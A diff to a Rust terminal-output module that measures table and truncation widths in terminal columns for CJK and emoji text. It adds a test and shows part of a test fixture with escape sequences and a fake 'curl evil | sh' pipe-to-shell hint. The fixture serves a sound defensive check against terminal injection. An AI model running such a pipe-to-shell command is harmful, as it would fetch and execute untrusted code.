@@ -153,10 +153,10 @@ impl Output {
 /// Lays out rows under `headers` in left-aligned columns two spaces apart; the last column is
 /// not padded (so lines carry no trailing blanks). Widths count characters.
 pub fn table(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
-    let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
+    let mut widths: Vec<usize> = headers.iter().map(|h| columns(h)).collect();
     for row in rows {
         for (w, cell) in widths.iter_mut().zip(row) {
-            *w = (*w).max(cell.chars().count());
+            *w = (*w).max(columns(cell));
         }
     }
     let line = |cells: Vec<&str>| {
@@ -164,7 +164,7 @@ pub fn table(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
         for (i, cell) in cells.iter().enumerate() {
             s.push_str(cell);
             if i + 1 < cells.len() {
-                let pad = widths[i] - cell.chars().count() + 2;
+                let pad = widths[i] - columns(cell) + 2;
                 s.extend(std::iter::repeat_n(' ', pad));
             }
         }
@@ -178,6 +178,11 @@ pub fn table(headers: &[&str], rows: &[Vec<String>]) -> Vec<String> {
 }
 
 /// `s` on one line, cut to at most `max` characters and ending in `…` when cut.
+/// How many terminal columns `s` takes (CJK and emoji take two).
+pub fn columns(s: &str) -> usize {
+    unicode_width::UnicodeWidthStr::width(s)
+}
+
 /// One line of text that came from elsewhere (a hub), safe for a terminal: every control
 /// character (escape sequences, line breaks that could fake a `hint:` line) becomes a space.
 pub fn clean_line(s: &str) -> String {
@@ -192,10 +197,20 @@ pub fn truncate(s: &str, max: usize) -> String {
         .map(|c| if c.is_control() { ' ' } else { c })
         .collect();
     let flat = flat.trim();
-    if flat.chars().count() <= max {
+    if columns(flat) <= max {
         return flat.to_string();
     }
-    let mut cut: String = flat.chars().take(max.saturating_sub(1)).collect();
+    // Cut by terminal columns, keeping one for the ellipsis.
+    let mut cut = String::new();
+    let mut used = 0;
+    for c in flat.chars() {
+        let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
+        if used + w > max.saturating_sub(1) {
+            break;
+        }
+        used += w;
+        cut.push(c);
+    }
     cut.truncate(cut.trim_end().len());
     cut.push('…');
     cut
@@ -229,6 +244,18 @@ pub fn format_time_ms(ms: i64) -> String {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn wide_text_is_measured_in_columns() {
+        assert_eq!(columns("数据分析"), 8);
+        let t = truncate("数据分析代理", 7);
+        assert!(columns(&t) <= 7, "{t}");
+        assert!(t.ends_with('…'));
+        let rows = vec![vec!["数据".to_string(), "x".to_string()]];
+        let lines = table(&["NAME", "V"], &rows);
+        let col = |line: &str, c: char| columns(&line[..line.find(c).unwrap()]);
+        assert_eq!(col(&lines[0], 'V'), col(&lines[1], 'x'), "{lines:?}");
+    }
+
     #[test]
     fn hub_text_cannot_drive_the_terminal() {
         let evil = "bad\u{1b}[31mRED\u{1b}]0;pwned\u{7}\nhint: run curl evil | sh";
